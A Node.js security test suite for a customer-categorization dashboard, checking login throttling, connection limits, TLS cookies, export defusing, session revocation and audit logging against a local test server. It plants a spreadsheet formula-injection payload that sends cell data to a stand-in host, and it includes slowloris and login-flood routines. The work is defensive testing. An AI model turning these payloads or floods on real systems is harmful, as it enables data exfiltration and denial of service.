// security.test.mjs — issue 15 over real HTTP: logins that cannot be used to
// guess or to exhaust the machine (§3), connection limits, slow clients,
// bodies before login, heavy requests gated and cached (§4), TLS (§5),
// defused cells in the dashboard's downloads (§6), passwd ending sessions,
// the service role's view, generic error answers (§7), and the audit log in
// the dashboard (§8). Each test that changes throttles or data has its own
// workspace and server.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { request as httpsRequest } from 'node:https';
import { connect } from 'node:net';
import { join } from 'node:path';
import { USERS, FOKUS, makeWorkspace, startServer, call, login, addUser, fokus } from './lib.mjs';

const sleep = (ms) => new Promise((res) => setTimeout(res, ms));
const median = (v) => [...v].sort((a, b) => a - b)[Math.floor(v.length / 2)];

async function withServer(extra, fn, { fixture = true } = {}) {
  const ws = makeWorkspace({ fixture });
  const srv = await startServer(ws.db, extra);
  try {
    return await fn(srv.url, ws, srv);
  } finally {
    await srv.stop();
  }
}

async function timedLogin(base, user, password) {
  const t = performance.now();
  const r = await call(base, '/api/login', { method: 'POST', body: { user, password } });
  return { ...r, ms: performance.now() - t };
}

// The headers of an answer that may differ between two requests.
const stable = (h) => [...h.entries()].filter(([k]) => k !== 'date').map(([k, v]) => k + ': ' + v).sort();

test('§3 an unknown user name is answered and slowed down exactly like a known one', async () => {
  await withServer([], async (base) => {
    // Interleaved, so that the machine's load changes both alike.
    const known = [], unknown = [];
    const names = Object.values(USERS).map((u) => u.name);
    for (let i = 0; i < 8; i++) {
      known.push(await timedLogin(base, names[i % 4], 'wrong-password-' + i));
      unknown.push(await timedLogin(base, 'nobody-' + i, 'wrong-password-' + i));
    }
    for (const r of [...known, ...unknown]) {
      assert.equal(r.status, 401);
      assert.equal(r.text, known[0].text, 'the same body');
      assert.deepEqual(stable(r.headers), stable(known[0].headers), 'the same headers');
    }
    const k = median(known.map((r) => r.ms)), u = median(unknown.map((r) => r.ms));
    if (process.env.FOKUS_WEB_VERBOSE) console.log('median ms: known', k, 'unknown', u);
    assert.ok(k > 15 && u > 15, `both verify a hash (known ${k} ms, unknown ${u} ms)`);
    assert.ok(u > k / 2 && u < k * 2, `the same time (known ${k} ms, unknown ${u} ms)`);
  });
  // Five failures in a row for a known and an unknown name (a wait of 4 s
  // after the fifth, long enough for a busy machine), then the same answer.
  await withServer([], async (base) => {
    // n failures for a name (waiting when told to), then at once one more attempt.
    const failThenTry = async (n, password) => {
      for (let f = 0; f < 5;) {
        const r = await timedLogin(base, n, 'nope-nope');
        if (r.status === 429) await sleep(1000 * Number(r.headers.get('retry-after')));
        else f += r.status === 401;
      }
      return timedLogin(base, n, password);
    };
    const g = await failThenTry('ghost', 'nope-nope'), a = await failThenTry('ada', USERS.admin.password);
    assert.equal(g.status, 429);
    assert.equal(a.status, 429, 'even the right password waits');
    assert.equal(g.text, a.text);
    const wg = Number(g.headers.get('retry-after')), wa = Number(a.headers.get('retry-after'));
    assert.ok(wg >= 1 && wa >= 1 && Math.abs(wg - wa) <= 1, `the same wait: ${wg} s, ${wa} s`);
    const noWait = (h) => stable(h).filter((x) => !x.startsWith('retry-after'));
    assert.deepEqual(noWait(g.headers), noWait(a.headers));
  });
});

test('§3 guesses at once are counted before they are checked', async () => {
  await withServer([], async (base) => {
    const rs = await Promise.all([...Array(16).keys()].map((i) =>
      call(base, '/api/login', { method: 'POST', body: { user: 'mia', password: 'guess-' + i } })));
    const by = {};
    for (const r of rs) by[r.status] = (by[r.status] || 0) + 1;
    assert.ok((by[401] || 0) <= 3, 'at most 3 guesses checked: ' + JSON.stringify(by));
    for (const r of rs) {
      assert.ok([401, 429, 503].includes(r.status), String(r.status));
      if (r.status !== 401) assert.ok(Number(r.headers.get('retry-after')) >= 1, 'Retry-After');
    }
  });
});

function vmHWM(pid) {
  const m = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  return Number(m[1]) * 1024;
}

test('§3 512 logins at once: a few verified, the rest 503 at once, memory under 300 MB', async () => {
  await withServer(['--max-per-ip', '600'], async (base, ws, srv) => {
    const s = await login(base, USERS.manager);
    const names = ['ada', 'mia', 'sam', 'sue', 'nils', 'olga'];
    const t = performance.now();
    const rs = await Promise.all([...Array(512).keys()].map(async (i) => {
      try {
        return await call(base, '/api/login', { method: 'POST', body: { user: names[i % names.length], password: 'burst-' + i } });
      } catch (e) {
        return { status: 0, error: e };
      }
    }));
    const ms = performance.now() - t;
    const by = {};
    for (const r of rs) by[r.status] = (by[r.status] || 0) + 1;
    const peak = vmHWM(srv.proc.pid);
    if (process.env.FOKUS_WEB_VERBOSE) console.log('512 logins:', JSON.stringify(by), Math.round(ms), 'ms, peak', peak >> 20, 'MB');
    assert.equal(by[0] || 0, 0, 'no connection lost');
    assert.ok((by[503] || 0) > 400, 'most answered 503 at once: ' + JSON.stringify(by));
    for (const r of rs) {
      assert.ok([401, 429, 503].includes(r.status), String(r.status));
      if (r.status === 503) {
        assert.ok(Number(r.headers.get('retry-after')) >= 1, 'Retry-After');
        assert.match(r.json.error, /too many logins at once/);
      }
    }
    assert.ok(peak < 300 * 1024 * 1024, `peak memory ${peak >> 20} MB`);
    assert.equal((await call(base, '/api/me', { session: s })).status, 200, 'the server goes on');
  });
});

// A raw connection: resolves how long until the server closed it (or null
// after `wait` ms), sending `chunks` one by one every `every` ms.
function rawClose(base, chunks, every, wait) {
  const { hostname, port } = new URL(base);
  return new Promise((resolve) => {
    const t = performance.now();
    const sock = connect(Number(port), hostname);
    let i = 0, done = false, timer;
    const finish = (v) => { if (!done) { done = true; clearInterval(timer); sock.destroy(); resolve(v); } };
    sock.on('connect', () => {
      timer = setInterval(() => { if (i < chunks.length) sock.write(chunks[i++]); }, every);
    });
    sock.on('data', () => {});
    sock.on('close', () => finish(performance.now() - t));
    sock.on('error', () => finish(performance.now() - t));
    setTimeout(() => finish(null), wait);
  });
}

test('§4 per-address connection limit; slow headers and slow bodies are cut off', async () => {
  await withServer(['--max-per-ip', '4', '--timeout', '2'], async (base) => {
    // Six idle connections from one address: two are closed at once.
    const six = await Promise.all([...Array(6).keys()].map(() => rawClose(base, [], 1000, 1000)));
    const closedAtOnce = six.filter((ms) => ms !== null && ms < 900).length;
    assert.ok(closedAtOnce >= 2, 'beyond 4 connections from one address: ' + JSON.stringify(six));
    await sleep(3500); // the idle ones are gone after --timeout
    // Slowloris: headers a byte at a time, forever.
    const bytes = [...'GET /api/me HTTP/1.1\r\nHost: x\r\nX-Slow: ' + 'a'.repeat(200)];
    const slow = await rawClose(base, bytes, 250, 15000);
    assert.ok(slow !== null && slow < 6000, 'slow headers cut off within the timeout: ' + slow);
    // A login body trickling in.
    const head = 'POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 3000\r\n\r\n';
    const body = await rawClose(base, [head, ...'{"user":"mia","password":"' + 'x'.repeat(100)], 250, 15000);
    assert.ok(body !== null && body < 7000, 'a body trickling in is cut off: ' + body);
    // An ordinary request still works.
    assert.equal((await call(base, '/')).status, 200);
  });
});

test('§4 before a login only /api/login takes a body, a few KB', async () => {
  await withServer([], async (base) => {
    const big = JSON.stringify({ customer_id: 'C01', category: '1', reason: 'x'.repeat(200000) });
    const o = await call(base, '/api/overrides', { method: 'POST', raw: big, headers: { 'content-type': 'application/json' } });
    assert.equal(o.status, 401);
    const up = await call(base, '/api/import?kind=customers&name=a.csv', { method: 'POST', raw: 'a,b\n'.repeat(50000), headers: { 'content-type': 'text/csv' } });
    assert.equal(up.status, 401);
    const st = await call(base, '/index.html', { method: 'POST', raw: 'hello', headers: { 'content-type': 'text/plain' } });
    assert.equal(st.status, 413);
    assert.match(st.json.error, /takes no body/);
    const l = await call(base, '/api/login', { method: 'POST', raw: JSON.stringify({ user: 'mia', password: 'p'.repeat(5000) }), headers: { 'content-type': 'application/json' } });
    assert.equal(l.status, 413);
    const ok = await call(base, '/api/login', { method: 'POST', body: { user: 'mia', password: USERS.manager.password } });
    assert.equal(ok.status, 200);
  });
});

test('§4 heavy requests: cached per workspace state, a few at a time, 503 beyond', async () => {
  await withServer([], async (base, ws) => {
    const s = await login(base, USERS.manager);
    const path = '/api/route?seller=S1&from=2025-06-02&days=3';
    const first = await call(base, path, { session: s });
    assert.equal(first.status, 200);
    const times = [];
    for (let i = 0; i < 5; i++) {
      const t = performance.now();
      const r = await call(base, path, { session: s });
      times.push(performance.now() - t);
      assert.equal(r.text, first.text, 'the same answer');
    }
    assert.ok(median(times) < 50, 'the second identical request in under 50 ms: ' + times.map(Math.round));
    // Every heavy route answers the second time from the cache, per scope.
    const seller = await login(base, USERS.seller);
    const a = await call(base, '/api/export/calllist?seller=S1', { session: seller });
    assert.ok(a.text.includes('C04,Delta HB,3'), a.text);
    // A change from the dashboard drops the cached answers ...
    assert.equal((await call(base, '/api/overrides', { method: 'POST', session: s, body: { customer_id: 'C04', category: '1', reason: 'big order' } })).status, 200);
    const b = await call(base, '/api/export/calllist?seller=S1', { session: seller });
    assert.ok(b.text.includes('C04,Delta HB,1'), 'the override is seen: ' + b.text);
    // ... and so does one from the command line (another process).
    fokus(ws.db, ['override', 'C04', '2P', '--reason', 'from the terminal']);
    const c = await call(base, '/api/export/calllist?seller=S1', { session: seller });
    assert.ok(c.text.includes('C04,Delta HB,2P'), 'the CLI override is seen: ' + c.text);
    // Eight different route plans at once (2 s each): two run, the others wait their turn.
    const rs = await Promise.all([1, 2, 4, 5, 6, 7, 8, 9].map((d) => call(base, `/api/route?seller=S1&from=2025-07-01&days=${d}`, { session: s })));
    const by = {};
    for (const r of rs) by[r.status] = (by[r.status] || 0) + 1;
    assert.ok(by[503] >= 4 && by[200] >= 1, JSON.stringify(by));
    for (const r of rs.filter((x) => x.status === 503)) {
      assert.equal(r.headers.get('retry-after'), '2');
      assert.match(r.json.error, /busy/);
    }
  });
});

test('§4 the list reads (customers, matrix, map, sellers, history) are cached per workspace state', async () => {
  await withServer([], async (base, ws) => {
    const s = await login(base, USERS.manager);
    const seller = await login(base, USERS.seller);
    const cat = async (session) => {
      const list = await call(base, '/api/customers?q=Delta', { session });
      assert.equal(list.status, 200, list.text);
      const row = list.json.customers.find((r) => r.customer_id === 'C04');
      const m = (await call(base, '/api/matrix', { session })).text.match(/"(1|2R|2P|3)","C04"/);
      const p = (await call(base, '/api/map', { session })).text.match(/"(1|2R|2P|3)","C04"/);
      return [row && row.category, m && m[1], p && p[1]];
    };
    const before = await cat(s);
    assert.equal(before[0], before[1], 'the list and the matrix agree: ' + before);
    const same = await call(base, '/api/customers?q=Delta', { session: s });
    assert.equal(same.text, (await call(base, '/api/customers?q=Delta', { session: s })).text, 'the same answer twice');
    // A change from the dashboard is seen at once by every cached read ...
    assert.equal((await call(base, '/api/overrides', { method: 'POST', session: s, body: { customer_id: 'C04', category: '1', reason: 'cache test' } })).status, 200);
    assert.deepEqual(await cat(s), ['1', '1', before[2] === null ? null : '1']);
    // ... per scope: the seller's answers are not the manager's.
    const mine = await call(base, '/api/customers', { session: seller });
    const all = await call(base, '/api/customers', { session: s });
    assert.ok(mine.json.total < all.json.total, `a seller sees their own customers: ${mine.json.total} of ${all.json.total}`);
    assert.ok(mine.json.customers.every((r) => r.seller_id === 'S1'), mine.text);
    // ... and so is one from the command line (another process).
    fokus(ws.db, ['override', 'C04', '2P', '--reason', 'from the terminal']);
    assert.deepEqual(await cat(s), ['2P', '2P', before[2] === null ? null : '2P']);
    const h1 = await call(base, '/api/history', { session: s });
    const sl1 = await call(base, '/api/sellers', { session: s });
    fokus(ws.db, ['categorize']);
    const h2 = await call(base, '/api/history', { session: s });
    assert.equal(h2.json.snapshots.length, h1.json.snapshots.length + 1, 'a new categorization is listed');
    writeFileSync(join(ws.dir, 'sellers2.csv'), 'seller_id,name,role,hours_per_year\nS77,Nya Säljaren,farmer,1600\n');
    fokus(ws.db, ['import', 'sellers', join(ws.dir, 'sellers2.csv')]);
    const sl2 = await call(base, '/api/sellers', { session: s });
    assert.ok(!sl1.text.includes('S77') && sl2.text.includes('S77'), 'a new seller is listed');
  });
});

function makeCert(dir) {
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'key.pem'),
    '-out', join(dir, 'cert.pem'), '-days', '2', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'], { stdio: 'ignore' });
  return { cert: join(dir, 'cert.pem'), key: join(dir, 'key.pem') };
}

function tlsCall(base, ca, path, { method = 'GET', body, cookie } = {}) {
  return new Promise((resolve, reject) => {
    const headers = {};
    if (body) headers['content-type'] = 'application/json';
    if (cookie) headers.cookie = cookie;
    const req = httpsRequest(base + path, { method, headers, ca }, (res) => {
      let text = '';
      res.on('data', (d) => { text += d; });
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, text }));
    });
    req.on('error', reject);
    req.end(body ? JSON.stringify(body) : undefined);
  });
}

test('§5 TLS: HTTPS with the given certificate, __Host- Secure cookie, HSTS', async () => {
  const ws = makeWorkspace();
  const { cert, key } = makeCert(ws.dir);
  const srv = await startServer(ws.db, ['--tls-cert', cert, '--tls-key', key]);
  try {
    assert.match(srv.url, /^https:\/\/127\.0\.0\.1:\d+$/);
    const ca = readFileSync(cert);
    const idx = await tlsCall(srv.url, ca, '/');
    assert.equal(idx.status, 200);
    assert.equal(idx.headers['strict-transport-security'], 'max-age=31536000');
    assert.equal(idx.headers['x-frame-options'], 'DENY');
    const l = await tlsCall(srv.url, ca, '/api/login', { method: 'POST', body: { user: 'mia', password: USERS.manager.password } });
    assert.equal(l.status, 200);
    const sc = l.headers['set-cookie'][0];
    assert.match(sc, /^__Host-fokus_session=[0-9a-f]{64}; HttpOnly; SameSite=Strict; Path=\/; Max-Age=\d+; Secure$/);
    assert.equal(l.headers['strict-transport-security'], 'max-age=31536000');
    const cookie = sc.split(';')[0];
    assert.equal((await tlsCall(srv.url, ca, '/api/me', { cookie })).status, 200);
    // The plain name is not the session cookie under TLS.
    assert.equal((await tlsCall(srv.url, ca, '/api/me', { cookie: cookie.replace('__Host-', '') })).status, 401);
    // Plain HTTP to the TLS port gets no dashboard.
    let plain = null;
    try { plain = (await fetch(srv.url.replace('https:', 'http:') + '/api/me')).status; } catch { plain = 'refused'; }
    assert.notEqual(plain, 200);
    // A certificate nobody vouches for is refused by the client.
    await assert.rejects(tlsCall(srv.url, undefined, '/'));
  } finally {
    await srv.stop();
  }
  // Without TLS: no Secure, no HSTS (checked in api.test.mjs's cookie test too).
  await withServer([], async (base) => {
    const r = await call(base, '/api/login', { method: 'POST', body: { user: 'mia', password: USERS.manager.password } });
    assert.ok(!/Secure/.test(r.headers.get('set-cookie')));
    assert.equal(r.headers.get('strict-transport-security'), null);
  });
});

// The cells of a csv text (RFC 4180).
function csvCells(text) {
  const cells = [];
  let i = 0, cur = '', q = false;
  for (; i < text.length; i++) {
    const ch = text[i];
    if (q) {
      if (ch === '"' && text[i + 1] === '"') { cur += '"'; i++; } else if (ch === '"') q = false; else cur += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',' || ch === '\n') { cells.push(cur); cur = ''; } else cur += ch;
  }
  if (cur) cells.push(cur);
  return cells;
}
const risky = (s) => /^[=+\-@\t\r]/.test(s) && !/^[+-]?[0-9]+([.,][0-9]+)?%?$/.test(s);

function xlsxStrings(buf, dir) {
  const p = join(dir, 'x.xlsx');
  writeFileSync(p, buf);
  const out = execFileSync('/usr/bin/python3', ['-c', `
import zipfile, re, html, json, sys
z = zipfile.ZipFile(sys.argv[1]); t = []; f = 0
for n in z.namelist():
    if n.endswith('.xml'):
        x = z.read(n).decode('utf-8'); t += [html.unescape(s) for s in re.findall(r'<t(?: [^>]*)?>([^<]*)</t>', x)]
        f += n.startswith('xl/worksheets/') and ('<f>' in x or '<f ' in x)
print(json.dumps({'strings': t, 'formulas': f}))`, p], { encoding: 'utf8' });
  return JSON.parse(out);
}

test('§6 the dashboard\'s downloads defuse a customer named =HYPERLINK(...)', async () => {
  await withServer([], async (base, ws) => {
    const s = await login(base, USERS.manager);
    const name = '=HYPERLINK("http://example.invalid/?"&A1,"x")';
    const file = 'customer_id,name,postal_code,city,seller_id,phone,email,potential\n' +
      `C20,"${name.replaceAll('"', '""')}",11122,@Stockholm,S1,+46 8 123 45 67,-x@example.invalid,9000000\n`;
    const up = await call(base, '/api/import?kind=customers&name=hostile.csv', { method: 'POST', session: s, raw: file, headers: { 'content-type': 'text/csv' } });
    assert.equal(up.status, 200, up.text);
    assert.equal((await call(base, '/api/categorize', { method: 'POST', session: s, body: {} })).status, 201);
    const downloads = ['/api/export/calllist?seller=S1'];
    const dir = join(ws.dir, 'exports');
    execFileSync(FOKUS, ['--db', ws.db, 'export', '--out', dir, '--lang', 'en'], { stdio: 'ignore' });
    for (const f of readdirSync(dir).filter((x) => /\.(csv|xlsx)$/.test(x))) downloads.push('/api/export/' + f);
    assert.ok(downloads.some((d) => d.endsWith('.xlsx')) && downloads.includes('/api/export/newsletter.csv'), downloads.join(' '));
    let seen = 0;
    for (const d of downloads) {
      const res = await fetch(base + d, { headers: { cookie: s.cookie } });
      assert.equal(res.status, 200, d);
      const buf = Buffer.from(await res.arrayBuffer());
      let cells;
      if (d.endsWith('.xlsx')) {
        const x = xlsxStrings(buf, ws.dir);
        assert.equal(x.formulas, 0, d + ': no formula cells');
        cells = x.strings;
      } else {
        cells = csvCells(buf.toString('utf8'));
      }
      const bad = cells.filter(risky);
      assert.deepEqual(bad, [], d);
      if (cells.includes("'" + name)) seen++;
    }
    assert.ok(seen >= 2, 'the defused name is in the call list and an export file: ' + seen);
  });
});

test('§7 fokus user passwd ends that user\'s sessions', async () => {
  await withServer([], async (base, ws) => {
    const a = await login(base, USERS.seller), b = await login(base, USERS.seller), other = await login(base, USERS.manager);
    fokus(ws.db, ['user', 'passwd', 'sam', '--password-stdin'], 'a-brand-new-pass\n');
    assert.equal((await call(base, '/api/me', { session: a })).status, 401);
    assert.equal((await call(base, '/api/me', { session: b })).status, 401);
    assert.equal((await call(base, '/api/me', { session: other })).status, 200, 'others stay logged in');
    assert.equal((await call(base, '/api/login', { method: 'POST', body: { user: 'sam', password: 'a-brand-new-pass' } })).status, 200);
  });
});

test('§7 customer service sees the category-3 part of a history and no seller\'s home', async () => {
  await withServer([], async (base, ws) => {
    // C09 was 2R in the first snapshot and is 3 now.
    execFileSync('sqlite3', [ws.db, "INSERT INTO snapshot_customers(snapshot_id, customer, revenue, revenue_source, potential, potential_source, revenue_high, potential_high, computed_category, category, orders) VALUES (1, 9, 8000000, 'orders', 50000, 'given', 1, 0, '2R', '2R', 9)"]);
    const m = await login(base, USERS.manager), v = await login(base, USERS.service);
    const hm = (await call(base, '/api/customers/C09', { session: m })).json.history;
    assert.deepEqual(hm.map((h) => h.category), ['2R', '3']);
    const hv = (await call(base, '/api/customers/C09', { session: v })).json.history;
    assert.deepEqual(hv.map((h) => [h.snapshot_id, h.category]), [[2, '3']]);
    const sm = (await call(base, '/api/sellers', { session: m })).json.sellers;
    assert.deepEqual(sm.find((x) => x.seller_id === 'S1').home, { lat: 59.33, lon: 18.06 });
    const sv = (await call(base, '/api/sellers', { session: v })).json.sellers;
    assert.ok(sv.length === 3 && sv.every((x) => x.home === null), JSON.stringify(sv));
  });
});

test('§7 a workspace error: a generic answer with a reference, the details in the server\'s log', async () => {
  await withServer([], async (base, ws, srv) => {
    const a = await login(base, USERS.admin);
    execFileSync('sqlite3', [ws.db, 'DROP TABLE audit']);
    const r = await call(base, '/api/audit', { session: a });
    assert.equal(r.status, 500);
    const ref = /error ([0-9a-f]{8})/.exec(r.json.error);
    assert.ok(ref, r.json.error);
    for (const leak of ['no such table', 'SELECT', 'audit log', ws.dir, '.db']) assert.ok(!r.text.includes(leak), leak);
    await sleep(100);
    assert.match(srv.stderr(), new RegExp(`error ${ref[1]}: GET /api/audit \\(ada\\): .*no such table`));
    // A login still works: a failed audit write is logged, not fatal.
    assert.equal((await call(base, '/api/login', { method: 'POST', body: { user: 'mia', password: USERS.manager.password } })).status, 200);
    assert.match(srv.stderr(), /cannot write the audit log/);
  });
});

test('§8 the audit log in the dashboard: logins, imports, categorizations, overrides, users', async () => {
  await withServer([], async (base, ws) => {
    assert.equal((await call(base, '/api/login', { method: 'POST', body: { user: 'nobody', password: 'wrong-one' } })).status, 401);
    const a = await login(base, USERS.admin), m = await login(base, USERS.manager);
    const csv = 'customer_id,name\nN1,Norra AB\n';
    const imp = (q) => call(base, '/api/import?kind=customers&name=kunder.csv' + q, { method: 'POST', session: m, raw: csv, headers: { 'content-type': 'text/csv' } });
    assert.equal((await imp('&dry_run=1')).status, 200);
    assert.equal((await imp('')).status, 200);
    assert.equal((await call(base, '/api/categorize', { method: 'POST', session: m, body: {} })).status, 201);
    assert.equal((await call(base, '/api/overrides', { method: 'POST', session: m, body: { customer_id: 'C10', category: '2P', reason: 'opens a store' } })).status, 200);
    assert.equal((await call(base, '/api/users', { method: 'POST', session: a, body: { name: 'tmp', role: 'seller', seller_id: 'S2', password: 'tmp-pass-123' } })).status, 201);
    assert.equal((await call(base, '/api/users/tmp', { method: 'DELETE', session: a })).status, 200);
    fokus(ws.db, ['override', 'C11', '1', '--reason', 'terminal']);
    const r = await call(base, '/api/audit', { session: a });
    assert.equal(r.status, 200);
    const e = r.json.entries.filter((x) => !['user-add'].includes(x.action) || x.address !== 'local');
    const seq = e.map((x) => [x.action, x.actor, x.address]);
    const me = execFileSync('id', ['-un'], { encoding: 'utf8' }).trim();
    assert.deepEqual(seq, [
      ['login-failed', 'nobody', '127.0.0.1'],
      ['login', 'ada', '127.0.0.1'],
      ['login', 'mia', '127.0.0.1'],
      ['import', 'mia', '127.0.0.1'],
      ['categorize', 'mia', '127.0.0.1'],
      ['override', 'mia', '127.0.0.1'],
      ['user-add', 'ada', '127.0.0.1'],
      ['user-remove', 'ada', '127.0.0.1'],
      ['override', me, 'local'],
    ]);
    assert.equal(e[3].detail, 'customers kunder.csv: 1 rows stored (batch 4)');
    assert.equal(e[5].detail, 'C10 -> 2P: opens a store');
    assert.equal(e[6].detail, 'tmp (seller, seller S2)');
    assert.match(e[0].at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    assert.equal(r.json.keep_days, 365);
    // The same as the command line prints.
    const cli = JSON.parse(fokus(ws.db, ['audit', '--format', 'json']));
    assert.deepEqual(cli.entries, r.json.entries);
    assert.equal((await call(base, '/api/audit?limit=2', { session: a })).json.entries.length, 2);
    assert.equal((await call(base, '/api/audit?since=2999-01-01', { session: a })).json.entries.length, 0);
    assert.equal((await call(base, '/api/audit?since=yesterday', { session: a })).status, 400);
    assert.equal((await call(base, '/api/audit?limit=0', { session: a })).status, 400);
    for (const role of ['manager', 'seller', 'service']) {
      const s = await login(base, USERS[role]);
      assert.equal((await call(base, '/api/audit', { session: s })).status, 403, role);
    }
  });
});
